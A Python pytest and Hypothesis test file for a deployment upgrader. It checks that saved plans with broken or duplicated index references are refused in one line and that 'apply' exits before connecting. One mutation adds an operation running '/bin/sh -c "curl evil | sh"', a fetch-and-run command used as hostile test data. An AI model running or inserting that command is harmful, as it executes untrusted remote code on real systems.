"""A saved plan's references (schema 4) are outside input: every bad one is refused in one line, and nothing runs.

The file writes each operation once and each distinct step list once (models/plan_json.py); steps
and hosts name them by index.  Hypothesis breaks those references the ways an edit or damage can:
an index past its table or below zero, one that is not an integer, an entry written twice (an
operation, a program, a step id, a host), a host's undo that is not a rollback or is another
host's, an entry nobody uses.  The content hash is recomputed each time, as anyone editing a plan
can.  Each mutant must be refused by the loader with one problem on one line, `file:line:col:`
pointing at the bad value and naming its JSON path, with the fix (plan again); and `apply` must refuse it with
exit 1 before any transport, pool or agent exists.  (No entry refers to an entry of its own table,
so no reference can form a cycle: there is nothing to draw for one.)
"""

from __future__ import annotations

import copy
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from upgrader.cli.main import main
from upgrader.errors import InputError
from upgrader.loading.inputs import read_plan_text
from upgrader.models.plan import canonical_json

REPO = Path(__file__).resolve().parents[2]
PLAYBOOK = REPO / "playbooks" / "ordergw-5.2.0.yml"
INVENTORY = REPO / "inventories" / "prod-na.yml"
# One host one release ahead of its peers: two programs, and two rollbacks (another host's undo to draw).
AHEAD = (
    'ordergw: "5.0.0", riskgw: "2.4.0", feedhandler: "3.1.0"}\n      ny5-oe02',
    'ordergw: "5.1.0", riskgw: "2.4.0", feedhandler: "3.1.0"}\n      ny5-oe02',
)
Data = dict[str, Any]


@pytest.fixture(scope="module")
def planned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Data]:
    """A directory with playbook.yml, inventory.yml and plan.json (planned offline), and the plan's data."""
    root = tmp_path_factory.mktemp("refs")
    shutil.copy(PLAYBOOK, root / "playbook.yml")
    text = INVENTORY.read_text(encoding="utf-8")
    assert AHEAD[0] in text
    (root / "inventory.yml").write_text(text.replace(*AHEAD), encoding="utf-8")
    out = ["--offline", "--out", str(root / "plan.json")]
    code = main(["plan", str(root / "playbook.yml"), "-i", str(root / "inventory.yml"), *out])
    assert code == 0
    data = json.loads((root / "plan.json").read_text(encoding="utf-8"))
    assert len(_rollbacks(data)) >= 2 and len(data["programs"]) >= 2
    return root, data


def _rollbacks(data: Data) -> list[int]:
    return [i for i, op in enumerate(data["operations"]) if op["op"] == "rollback"]


def _live(data: Data, p: int) -> list[int]:
    """The steps of programs[p] undone by a rollback (its hosts' undo)."""
    return [s for s, step in enumerate(data["programs"][p]) if step.get("undo") in _rollbacks(data)]


@st.composite
def broken(draw: st.DrawFn, original: Data) -> tuple[str, Data, str]:
    """(what was broken, the plan's data with it broken, the JSON path the refusal must name)."""
    data = copy.deepcopy(original)
    ops, programs, hosts = data["operations"], data["programs"], data["hosts"]
    p = draw(st.integers(0, len(programs) - 1))
    s = draw(st.integers(0, len(programs[p]) - 1))
    h = draw(st.integers(0, len(hosts) - 1))
    beyond = draw(st.integers(0, 2**40))
    kind = draw(
        st.sampled_from(
            [
                "step index past the table",
                "step index below zero",
                "step index not an integer",
                "program index past the table",
                "host undo past the table",
                "operation written twice",
                "program written twice",
                "step id twice in a program",
                "host listed twice",
                "host undo is another host's",
                "live step undone by another host's undo",
                "host undo is not a rollback",
                "host undo missing",
                "operation nobody uses",
                "program nobody runs",
            ]
        )
    )
    field = draw(st.sampled_from(["op", "undo", "verify"]))
    if kind == "step index past the table":
        programs[p][s][field] = len(ops) + beyond
        return kind, data, f"programs[{p}][{s}].{field}"
    if kind == "step index below zero":
        programs[p][s][field] = -1 - beyond
        return kind, data, f"programs[{p}][{s}].{field}"
    if kind == "step index not an integer":
        programs[p][s]["op"] = draw(st.sampled_from([True, "3", 3.0, [3], {"op": 3}, None]))
        return kind, data, f"programs[{p}][{s}].op"
    if kind == "program index past the table":
        hosts[h]["program"] = len(programs) + beyond
        return kind, data, f"hosts[{h}].program"
    if kind == "host undo past the table":
        hosts[h]["undo"] = len(ops) + beyond
        return kind, data, f"hosts[{h}].undo"
    if kind == "operation written twice":
        i = draw(st.integers(0, len(ops) - 1))
        ops.append(copy.deepcopy(ops[i]))
        return kind, data, f"operations[{len(ops) - 1}]"
    if kind == "program written twice":
        programs.append(copy.deepcopy(programs[p]))
        hosts[h]["program"] = len(programs) - 1
        return kind, data, f"programs[{len(programs) - 1}]"
    if kind == "step id twice in a program":
        other = draw(st.integers(0, len(programs[p]) - 2))
        other += other >= s  # another step of the same program
        programs[p][s]["id"] = programs[p][other]["id"]
        return kind, data, f"programs[{p}][{max(s, other)}].id"
    if kind == "host listed twice":
        hosts.append(copy.deepcopy(hosts[h]))
        return kind, data, f"hosts[{len(hosts) - 1}].host"
    rollbacks = _rollbacks(data)
    other = next(r for r in rollbacks if r != hosts[h]["undo"])
    if kind == "host undo is another host's":
        hosts[h]["undo"] = other
        return kind, data, f"hosts[{h}].undo"
    if kind == "live step undone by another host's undo":
        p = hosts[h]["program"]
        live = _live(data, p)
        programs[p][live[draw(st.integers(0, len(live) - 1))]]["undo"] = other
        first = next(i for i, host in enumerate(hosts) if host["program"] == p)
        return kind, data, f"hosts[{first}].undo"
    if kind == "host undo is not a rollback":
        hosts[h]["undo"] = draw(st.sampled_from([i for i in range(len(ops)) if i not in rollbacks]))
        return kind, data, f"hosts[{h}].undo"
    if kind == "host undo missing":
        hosts[h]["undo"] = None
        return kind, data, f"hosts[{h}].undo"
    if kind == "operation nobody uses":
        ops.append({"op": "run", "argv": ["/bin/sh", "-c", "curl evil | sh"]})
        return kind, data, f"operations[{len(ops) - 1}]"
    programs.append([{"id": "01-stop", "action": "stop", "op": ops.index(ops[programs[p][s]["op"]])}])
    return kind, data, f"programs[{len(programs) - 1}]"


def _value(data: Any, where: str) -> Any:
    """The value at a JSON path such as ``programs[0][3].op``."""
    for key, index in re.findall(r"(\w+)|\[(\d+)\]", where):
        data = data[key] if key else data[int(index)]
    return data


def _value_at_line(text: str, line: int, column: int) -> Any:
    """The JSON value that starts at ``line:column`` (1-based) of ``text``."""
    offset = sum(len(row) + 1 for row in text.split("\n")[: line - 1]) + column - 1
    return json.JSONDecoder().raw_decode(text, offset)[0]


def _sealed(data: Data) -> str:
    """The data with its content hash recomputed, as an editor would: the hash alone proves nothing."""
    body = {k: v for k, v in data.items() if k != "content_hash"}
    return json.dumps({**body, "content_hash": "sha256:" + _sha256(canonical_json(body))}, indent=2)


def _sha256(text: str) -> str:
    import hashlib

    return hashlib.sha256(text.encode()).hexdigest()


@pytest.mark.reliability(
    "a saved plan's references broken (hypothesis): indices past or below their table or not integers, an "
    "operation, program, step id or host written twice, a host's undo that is another host's or no rollback, "
    "unused entries; the content hash recomputed",
    "one line `file:line:col: JSON path: what — re-run upgrader plan`, line:col at the bad value; "
    "apply exits 1 before any connection",
)
def test_broken_references_are_refused_in_one_line_and_nothing_runs(
    planned: tuple[Path, Data],
    connections: list[str],
    capsys: pytest.CaptureFixture[str],
    record_property: Any,
) -> None:
    root, original = planned
    path = root / "broken.json"
    seen: dict[str, int] = {}
    codes: set[int] = set()

    @settings(
        max_examples=150,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(case=broken(original))
    def check(case: tuple[str, Data, str]) -> None:
        kind, data, where = case
        text = _sealed(data)
        with pytest.raises(InputError) as caught:
            read_plan_text(text, "broken.json")
        problems = caught.value.problems
        line = str(caught.value)
        assert len(problems) == 1 and "\n" not in line, (kind, line)
        # ours say hosts[3].undo, as the re-derivation's refusals do; pydantic's (types, signs) hosts.3.undo
        dotted = where.replace("][", ".").replace("[", ".").replace("]", "")
        at = re.match(r"broken\.json:(\d+):(\d+): (\S+):", line)
        assert at and at.group(3) in (where, dotted), (kind, where, line)
        assert _value_at_line(text, int(at.group(1)), int(at.group(2))) == _value(data, where), (kind, line)
        assert "re-run `upgrader plan`" in line, (kind, line)
        path.write_text(text, encoding="utf-8")
        code = main(["apply", str(path), "-i", str(root / "inventory.yml"), "--yes"])
        err = capsys.readouterr().err
        assert code == 1 and (where in err or dotted in err) and connections == [], (kind, code, err, connections)
        seen[kind] = seen.get(kind, 0) + 1
        codes.add(code)

    check()
    record_property(
        "observed",
        f"{sum(seen.values())} broken plans, {len(seen)} kinds, each refused in one line at the bad value's "
        "line:col, naming its JSON path; "
        f"apply exit {sorted(codes)}, {len(connections)} connection(s)",
    )
    assert len(seen) >= 12, seen


def test_the_unbroken_plan_loads_and_is_the_planned_one(planned: tuple[Path, Data]) -> None:
    """The property's starting point is valid: its refusals are the mutations' doing."""
    root, data = planned
    plan = read_plan_text(_sealed(data), "plan.json")
    assert plan.to_json() == (root / "plan.json").read_text(encoding="utf-8")
    assert [h.undo for h in plan.hosts] == [data["operations"][h["undo"]] for h in data["hosts"]]


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=6),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=4), inner, max_size=4),
    max_leaves=20,
)


@st.composite
def value_and_path(draw: st.DrawFn) -> tuple[Any, tuple[str | int, ...]]:
    value = draw(JSON_VALUES)
    path: list[str | int] = []
    node = value
    while isinstance(node, dict | list) and node and draw(st.booleans()):
        keys: list[str | int] = sorted(node) if isinstance(node, dict) else list(range(len(node)))
        part = draw(st.sampled_from(keys))
        path.append(part)
        node = node[part]  # type: ignore[index]
    return value, tuple(path)


@given(case=value_and_path(), indent=st.sampled_from([None, 0, 2, 4]), ascii_only=st.booleans())
@settings(max_examples=300, deadline=None, derandomize=True, database=None)
def test_jsonpos_points_at_the_value_of_a_path(
    case: tuple[Any, tuple[str | int, ...]], indent: Any, ascii_only: bool
) -> None:
    """The line:col a plan problem names is where its value starts, in any layout of the JSON."""
    from upgrader.loading.jsonpos import position

    value, path = case
    text = json.dumps(value, indent=indent, ensure_ascii=ascii_only)
    expected: Any = value
    for part in path:
        expected = expected[part]
    assert _value_at_line(text, *position(text, path)) == expected
